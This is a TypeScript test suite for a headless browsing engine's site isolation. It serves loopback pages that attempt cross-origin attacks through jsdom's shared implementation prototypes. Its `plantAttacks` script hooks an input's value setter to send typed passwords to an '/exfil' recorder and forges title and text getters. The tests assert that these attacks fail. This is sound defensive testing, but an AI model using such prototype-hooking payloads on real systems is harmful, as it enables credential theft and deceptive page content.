/** @needs-bundle engine */
// A page shares no object with a page of another site or another session, nor with a stateless
// call's page (docs/security.md, "Site isolation"). The attacking page is one a plan only opens to
// read (/docs on 127.0.0.1); its victims are pages of another origin (the same server reached as
// `localhost`), of another session, and stateless calls. The attacks use no code generation and no
// engine realm: only what a page reaches from its own DOM wrappers (their symbol-keyed links to
// jsdom's implementation objects, those objects' prototypes). Loopback only: the page server is
// also the exfiltration recorder (`/exfil?d=…`). Run against the built engine (dist/engine).
import { randomBytes } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { call, connectClient } from './helpers/engine-process.js';

const SECRET = `pw-${randomBytes(10).toString('hex')}`;
const FORGED = 'Payment confirmed';
const BANK_TITLE = 'bank login';
const MARK = '__plasmate_isolation_marker__';

/** Page-realm helpers every attack starts from: a wrapper's implementation object and an accessor's owner. */
const REACH = `
  function implOf(wrapper) {
    var symbols = Object.getOwnPropertySymbols(wrapper);
    for (var i = 0; i < symbols.length; i++) { var v = wrapper[symbols[i]]; if (v && typeof v === 'object' && v !== wrapper) return v; }
    return undefined;
  }
  function owner(object, name) {
    for (var o = object; o; o = Object.getPrototypeOf(o)) { var d = Object.getOwnPropertyDescriptor(o, name); if (d) return { at: o, d: d }; }
    return undefined;
  }
  function hook(object, name, make) {
    var found = object && owner(object, name);
    if (!found) return false;
    try { Object.defineProperty(found.at, name, make(found.d)); return true; } catch (e) { return false; }
  }
`;

/** Walk everything reachable from the page's roots (own keys and symbols, accessors, prototypes); `visit` sees each object once. */
const WALK = `
  function walk(visit) {
    var seen = new Set(), queue = [window, document, document.documentElement, document.body, document.createElement('input'), document.createTextNode('t'), document.createElement('form')];
    var roots = queue.slice();
    roots.forEach(function (r) { var impl = implOf(r); if (impl) queue.push(impl); });
    while (queue.length > 0 && seen.size < 40000) {
      var o = queue.shift();
      if (o === null || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o)) continue;
      seen.add(o);
      visit(o);
      var keys;
      try { keys = Reflect.ownKeys(o); } catch (e) { keys = []; }
      for (var i = 0; i < keys.length; i++) {
        var d; try { d = Object.getOwnPropertyDescriptor(o, keys[i]); } catch (e) { continue; }
        if (!d) continue;
        if ('value' in d) queue.push(d.value);
        if (d.get) queue.push(d.get);
        if (d.set) queue.push(d.set);
      }
      try { queue.push(Object.getPrototypeOf(o)); } catch (e) {}
    }
    return seen.size;
  }
`;

const PLANT_MARKERS = `${REACH}${WALK}
  var planted = 0;
  var reached = walk(function (o) {
    if (!Object.isExtensible(o)) return;
    try { Object.defineProperty(o, '${MARK}', { value: true, configurable: true }); planted++; } catch (e) {}
  });
  document.title = 'planted:' + planted + ' of ' + reached;
`;

const FIND_MARKERS = `${REACH}${WALK}
  var found = 0;
  walk(function (o) { try { if (Object.prototype.hasOwnProperty.call(o, '${MARK}')) found++; } catch (e) {} });
  document.title = 'found:' + found;
  document.getElementById('out').textContent = 'found:' + found;
`;

/**
 * The concrete attacks: an input's value setter that sends every typed value home, a title getter
 * and text getters that return the attacker's words. Planted on jsdom's implementation prototypes,
 * which one heap shares between every window.
 */
function plantAttacks(exfil: string): string {
  return `${REACH}
  var input = implOf(document.createElement('input'));
  hook(input, 'value', function (d) { return { configurable: true, get: d.get, set: function (v) {
    try { var x = new this._globalObject.XMLHttpRequest(); x.open('GET', '${exfil}' + encodeURIComponent(v)); x.send(); } catch (e) {}
    return d.set.call(this, v);
  } }; });
  hook(implOf(document), 'title', function (d) { return { configurable: true, get: function () { return '${FORGED}'; }, set: d.set }; });
  ['data', 'nodeValue', 'textContent'].forEach(function (name) {
    hook(implOf(document.createTextNode('t')), name, function (d) { return { configurable: true, set: d.set, get: function () {
      var v = d.get.call(this); return typeof v === 'string' ? v.replace('Balance', '${FORGED}') : v;
    } }; });
  });
  document.title = 'attacks planted';
`;
}

let server: http.Server;
let port: number;
const received: string[] = [];
let client: Client;

const attacker = (path: string): string => `http://127.0.0.1:${port}${path}`;
const victim = (path: string): string => `http://localhost:${port}${path}`;

beforeAll(async () => {
  server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    res.setHeader('content-type', 'text/html; charset=utf-8');
    if (url.pathname === '/exfil') {
      received.push(url.searchParams.get('d') ?? '');
      res.end('');
      return;
    }
    if (url.pathname === '/plant-markers') {
      res.end(`<!DOCTYPE html><html><head><title>docs</title></head><body><p>docs</p><script>${PLANT_MARKERS}</script></body></html>`);
      return;
    }
    if (url.pathname === '/plant-attacks') {
      res.end(`<!DOCTYPE html><html><head><title>docs</title></head><body><p>docs</p><script>${plantAttacks(attacker('/exfil?d='))}</script></body></html>`);
      return;
    }
    if (url.pathname === '/check') {
      res.end(`<!DOCTYPE html><html><head><title>check</title></head><body><p id="out">pending</p><script>${FIND_MARKERS}</script></body></html>`);
      return;
    }
    if (url.pathname === '/bank') {
      res.end(`<!DOCTYPE html><html><head><title>${BANK_TITLE}</title></head><body><form><label for="pw">Password</label><input id="pw" name="pw" type="text"></form><p>Balance 100</p></body></html>`);
      return;
    }
    res.statusCode = 404;
    res.end('no');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  client = await connectClient();
}, 30_000);

afterAll(async () => {
  await client.close();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

interface PageJson {
  session_id: string;
  title: string;
  regions: Array<{ elements: Array<{ id: string; role: string; children?: unknown[] }> }>;
}

async function open(url: string): Promise<PageJson> {
  const opened = await call(client, 'open_page', { url });
  expect(opened.isError).toBe(false);
  return opened.json as PageJson;
}

function inputId(page: PageJson): string {
  for (const region of page.regions) for (const element of region.elements) if (element.role === 'text_input') return element.id;
  throw new Error(`no text input in ${JSON.stringify(page)}`);
}

describe('markers planted on everything a page reaches are found by no other page', () => {
  let attackerSession: string;

  beforeAll(async () => {
    const planted = await open(attacker('/plant-markers'));
    attackerSession = planted.session_id;
    // The walk reached and marked the page's implementation objects: the test cannot pass vacuously.
    const count = Number(/^planted:(\d+) of (\d+)$/.exec(planted.title)?.[1] ?? '0');
    expect(count).toBeGreaterThan(1000);
  }, 60_000);

  afterAll(async () => {
    await call(client, 'close_page', { session_id: attackerSession });
  });

  it('a page of another origin in the same session', async () => {
    const next = await call(client, 'navigate_to', { session_id: attackerSession, url: victim('/check') });
    expect((next.json as PageJson).title).toBe('found:0');
  }, 60_000);

  it('a page of another session (same origin as the planter)', async () => {
    const other = await open(attacker('/check'));
    expect(other.title).toBe('found:0');
    await call(client, 'close_page', { session_id: other.session_id });
  }, 60_000);

  it('a stateless call after the planter', async () => {
    const text = await call(client, 'extract_text', { url: victim('/check') });
    expect(text.isError).toBe(false);
    expect(text.text).toContain('found:0');
  }, 60_000);
});

describe('a read-only page of one site steals from and lies about no other', () => {
  beforeEach(() => {
    received.length = 0;
  });

  it('a $secret typed into a later page of another origin, same session (navigate_to + type_text)', async () => {
    const docs = await open(attacker('/plant-attacks'));
    const bank = await call(client, 'navigate_to', { session_id: docs.session_id, url: victim('/bank') });
    const typed = await call(client, 'type_text', { session_id: docs.session_id, element_id: inputId(bank.json as PageJson), text: SECRET });
    expect(typed.isError).toBe(false);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(received.join('\n')).not.toContain(SECRET);
    await call(client, 'close_page', { session_id: docs.session_id });
  }, 60_000);

  it("another session's typing, after the attacker's session closed", async () => {
    const docs = await open(attacker('/plant-attacks'));
    await call(client, 'close_page', { session_id: docs.session_id });
    const bank = await open(victim('/bank'));
    const typed = await call(client, 'type_text', { session_id: bank.session_id, element_id: inputId(bank), text: SECRET });
    expect(typed.isError).toBe(false);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(received.join('\n')).not.toContain(SECRET);
    await call(client, 'close_page', { session_id: bank.session_id });
  }, 60_000);

  it("a later navigate_to's title and an evaluate of another origin report that page, not the attacker's words", async () => {
    const docs = await open(attacker('/plant-attacks'));
    const bank = await call(client, 'navigate_to', { session_id: docs.session_id, url: victim('/bank') });
    expect((bank.json as PageJson).title).toBe(BANK_TITLE);
    const evaluated = await call(client, 'evaluate', { session_id: docs.session_id, expression: 'document.title' });
    expect(evaluated.json).toEqual({ result: BANK_TITLE });
    await call(client, 'close_page', { session_id: docs.session_id });
  }, 60_000);

  it('a stateless extract_text of another origin returns its own words', async () => {
    const docs = await open(attacker('/plant-attacks'));
    const text = await call(client, 'extract_text', { url: victim('/bank') });
    expect(text.text).toContain('Balance 100');
    expect(text.text).not.toContain(FORGED);
    await call(client, 'close_page', { session_id: docs.session_id });
  }, 60_000);
});
